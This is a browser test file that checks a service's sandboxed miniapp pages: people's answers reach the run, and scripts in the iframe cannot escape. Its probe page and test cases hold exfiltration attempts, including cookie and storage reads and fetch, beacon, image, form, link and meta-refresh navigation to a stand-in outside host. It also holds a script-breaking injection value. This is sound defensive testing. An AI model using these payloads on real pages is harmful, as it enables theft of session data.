/** Pages as a person has them: in a real browser, at the real address. */
import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
import type { Browser, BrowserContext, Page as Tab } from 'playwright-core';
import { first } from '../../../src/platform/core/present.ts';
import { launchBrowser } from '../../support/programs/chromium.ts';
import { isMissing, reasonOf } from '../../support/programs/missing.ts';
import { dispatch, tool } from '../../support/fixtures/runs.ts';
import { startTestService, type Tenant, type TestService } from '../../support/service/service.ts';
import { startWebhookReceiver, type WebhookReceiver } from '../../support/fakes/webhook-receiver.ts';
import { ASKER, askedOn, asks, newTenant, openForm, resultsOf } from './people.ts';

const launched = launchBrowser();
const isWithout = isMissing('pages of people in a browser', await reasonOf(launched));

/** Tries all that it must not be able to do, and says what came of each. */
const PROBES = `<!doctype html><h1>Probe</h1><button>Report</button><script>
const attempts = {
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  parent: () => parent.document.title,
  service: () => fetch('SERVICE/healthz').then((answer) => answer.status),
  world: () => fetch('WORLD/fetched').then((answer) => answer.status),
  blind: () => fetch('WORLD/blind', { mode: 'no-cors' }).then(() => 'sent'),
  image: () => new Promise((resolve, reject) => {
    const image = new Image();
    image.onload = () => resolve('loaded');
    image.onerror = () => reject(new Error('blocked'));
    image.src = 'WORLD/image.png';
  }),
  beacon: () => { if (!navigator.sendBeacon('WORLD/beacon', 'x')) throw new Error('blocked'); return 'queued'; },
  window: () => { if (open('WORLD/window') === null) throw new Error('blocked'); return 'opened'; },
  top: () => { top.location = 'WORLD/top'; return 'gone'; },
  evaluation: () => eval('1 + 1'),
};
document.querySelector('button').addEventListener('click', async () => {
  const outcome = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    outcome[name] = await Promise.resolve().then(attempt).then(String, () => 'refused');
  }
  window.submit({ outcome, origin: self.origin, args: ARGS });
});
</script>`;

(isWithout ? describe.skip : describe)('in a browser', () => {
  let service: TestService;
  let tenant: Tenant;
  let world: WebhookReceiver;
  let browser: Browser;
  let context: BrowserContext;
  beforeAll(async () => {
    [service, world, browser] = await Promise.all([startTestService(), startWebhookReceiver(() => 200), launched]);
    const html = PROBES.replaceAll('SERVICE', service.baseUrl).replaceAll('WORLD', world.url);
    tenant = await newTenant(service, 'acc_browsing', html);
    context = await browser.newContext();
    // Whoever opens a page may be signed in.
    await context.addCookies([{ name: 'service_session', value: tenant.session, url: service.baseUrl }]);
  });
  afterAll(async () => {
    await browser?.close();
    await world?.close();
    await service?.close();
  });
  let tab: Tab;
  afterEach(() => tab?.close());

  const inFrame = () => tab.frameLocator('iframe');
  const untilSent = () => tab.getByText('Sent. You can close this page.').waitFor({ timeout: 10_000 });

  // Guards: a person answers in their own words, and the run goes on with them.
  test('a question is answered in words', async () => {
    const runId = await asks(tenant, { question: 'Which <b>colour</b>?', options: ['red', 'blue'] });
    const page = await askedOn(service, tenant, runId);
    tab = await context.newPage();
    await tab.goto(page.url);
    expect(await inFrame().getByRole('heading').textContent()).toBe('Which <b>colour</b>?');
    await inFrame().getByRole('textbox').fill('Rather green');
    await inFrame().getByRole('button', { name: 'Send' }).click();
    await untilSent();
    expect(await tenant.waitForRun(runId)).toMatchObject({ status: 'succeeded' });
    expect(first(await resultsOf(tenant, runId)).result_preview).toContain('{"answer":"Rather green"}');

    await tab.reload();
    expect(await tab.getByRole('status').textContent()).toContain('answered already');
  });

  // Guards: an option is one click, and a second person with the page open is told that it was answered.
  test('a question is answered with an option, once', async () => {
    const runId = await asks(tenant, { question: 'Which?', options: ['red', 'blue'] });
    const page = await askedOn(service, tenant, runId);
    tab = await context.newPage();
    const second = await context.newPage();
    await Promise.all([tab.goto(page.url), second.goto(page.url)]);
    await inFrame().getByRole('button', { name: 'blue' }).click();
    await untilSent();
    await second.frameLocator('iframe').getByRole('button', { name: 'red' }).click();
    await second.getByText('This was answered already.').waitFor({ timeout: 10_000 });
    await second.close();
    await tenant.waitForRun(runId);
    expect(first(await resultsOf(tenant, runId)).result_preview).toContain('{"answer":"blue"}');
  });

  // Guards: a workspace's page runs its scripts, has its arguments and sends its answer, and reaches nothing else: no
  // cookie of the service, no other address and no window, not even by navigating away.
  test('a miniapp reaches nothing but its run', async () => {
    const page = await openForm(service, tenant, { product: '</script><b>"chair"' });
    tab = await context.newPage();
    await tab.goto(page.url);
    const runId = await dispatch(tenant, { agent: ASKER, prompt: tool('await_submission', { page_id: page.id }) });
    await inFrame().getByRole('button').click();
    await untilSent();
    await tenant.waitForRun(runId);
    const { data } = JSON.parse(first(await resultsOf(tenant, runId)).result_preview);
    expect(data.args).toEqual({ product: '</script><b>"chair"' });
    expect(data.origin).toBe('null');
    const refused = [
      'cookie',
      'storage',
      'parent',
      'service',
      'world',
      'blind',
      'image',
      'window',
      'top',
      'evaluation',
    ];
    for (const name of refused) expect({ [name]: data.outcome[name] }).toEqual({ [name]: 'refused' });
    expect(world.received).toEqual([]);
  });

  // Guards against: a page that carries data out by navigating; the frame does not allow it.
  test.each([
    ['a link', '<a href="WORLD/link">Go</a>'],
    ['a script', '<button onclick="location = \'WORLD/script?\' + JSON.stringify(ARGS)">Go</button>'],
    ['a form', '<form action="WORLD/form"><button onclick="this.form.submit()">Go</button></form>'],
    ['a refresh', '<button onclick="document.body.append(refresh.content)">Go</button>'],
  ])('a miniapp does not leave by %s', async (kind, html) => {
    const refresh = '<template id="refresh"><meta http-equiv="refresh" content="0; url=WORLD/refresh"></template>';
    const slug = `leave-by-${kind.replaceAll(' ', '-')}`;
    const other = await newTenant(service, `acc_${slug}`, (refresh + html).replaceAll('WORLD', world.url));
    const page = await openForm(service, other);
    tab = await context.newPage();
    await tab.goto(page.url);
    const refusal = tab.waitForEvent('console', { predicate: (line) => /Content Security Policy/.test(line.text()) });
    await inFrame().getByText('Go').click();
    await refusal;
    expect(world.received).toEqual([]);
  });
});
